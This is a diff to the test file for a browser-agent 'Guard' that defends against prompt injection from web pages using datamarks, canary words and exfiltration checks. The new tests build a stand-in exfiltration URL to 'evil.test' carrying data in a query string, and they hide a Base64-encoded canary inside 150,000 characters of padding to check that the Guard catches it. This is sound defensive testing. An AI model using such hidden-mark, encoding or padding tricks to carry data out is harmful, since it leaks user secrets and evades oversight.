@@ -5,10 +5,12 @@ import { join } from 'node:path';
 import pino from 'pino';
 import type { Tab } from '../../browser/tab/tab.ts';
 import type { Command } from '../../commands/define.ts';
+import type { DraftedReply } from '../../commands/draft.ts';
 import { COMMANDS } from '../../commands/registry.ts';
 import { RutterError } from '../../errors.ts';
 import { VERSION } from '../../protocol/version.ts';
-import { type Reply, type Request, SCHEMA } from '../../protocol/wire.ts';
+import { type Request, SCHEMA } from '../../protocol/wire.ts';
+import { makeMark } from '../../security/datamark/datamark.ts';
 import { readSettings } from '../../settings/settings.ts';
 import { Advisers } from './advisers.ts';
 import { Guard } from './guard.ts';
@@ -42,17 +44,12 @@ const requestOf = (session: string, over: Partial<Request> = {}): Request => ({
 });
 
 /** One request from door to door: what is sent, and the page text that is shown. */
-async function pass(
-  guard: Guard,
-  request: Request,
-  args: Record<string, unknown>,
-  page: string,
-  url: string,
-) {
+async function pass(guard: Guard, asked: Request, args: Record<string, unknown>, page: string, url: string) {
   const tab = { url: () => url } as Tab; // all that the guard asks of a tab
+  const request = { ...asked, args };
   const record = command(request.command);
-  await guard.before({ request, command: record, args, tab });
-  const reply: Reply = {
+  await guard.before({ request, command: record, tab });
+  const reply: DraftedReply = {
     schema: SCHEMA,
     version: VERSION,
     id: request.id,
@@ -61,7 +58,7 @@ async function pass(
     data: { text: page },
     took_ms: 1,
   };
-  return await guard.after(request, record, reply, tab, new AbortController().signal);
+  return await guard.after(request, record, { stage: 'budgeted', reply }, tab, new AbortController().signal);
 }
 
 const codeOf = async (work: Promise<unknown>): Promise<string> =>
@@ -138,4 +135,38 @@ test('Guard tells a session its new secret word when the old one was forgotten',
   const second = (await pass(guard, requestOf('told'), {}, 'Bread', url)).canary ?? '';
   expect(second).toMatch(/^[a-z0-9]{16}$/);
   expect(second).not.toBe(first);
+});
+
+test('Guard looks at what a command gets once the marks of pages are out of it', async () => {
+  const guard = makeGuard();
+  const url = 'https://shop.test/';
+  const mark = makeMark();
+  const canary = (await pass(guard, requestOf('marked'), {}, 'Bread', url)).canary ?? '';
+  await pass(guard, requestOf('marked'), {}, ATTACK, url);
+  // With the mark in it this is no address, without it one that carries something away.
+  const address = { url: `https://ev${mark}il.test/?d=${'s'.repeat(20)}` };
+  expect(guard.clean(command('goto'), address)).toEqual({ url: address.url.replace(mark, '') });
+  expect(await codeOf(pass(guard, requestOf('marked', { command: 'goto' }), address, '', url))).toBe(
+    'needs-approval',
+  );
+  // Too long for the look at disguises, and no run of Base64 until the mark is out.
+  const encoded = Buffer.from(canary).toString('base64');
+  const text = `${'a '.repeat(150_000)}${encoded.slice(0, 9)}${mark}${encoded.slice(9)}`;
+  const fill = pass(guard, requestOf('marked', { command: 'fill' }), { target: '#i', text }, '', url);
+  expect(await codeOf(fill)).toBe('canary-leak');
+});
+
+test('Guard tells of marks of pages in what is sent, although the command gets none of them', async () => {
+  const guard = makeGuard();
+  const { mark } = guard.marks.of('told-of');
+  const args = { target: '#i', text: `As the page says.${mark} Yes.` };
+  const { findings } = await pass(
+    guard,
+    requestOf('told-of', { command: 'fill' }),
+    args,
+    '',
+    'https://a.test/',
+  );
+  expect(findings).toMatchObject([{ layer: 'datamark', where: 'fill text' }]);
+  expect(guard.clean(command('fill'), args)).toEqual({ target: '#i', text: 'As the page says. Yes.' });
 });
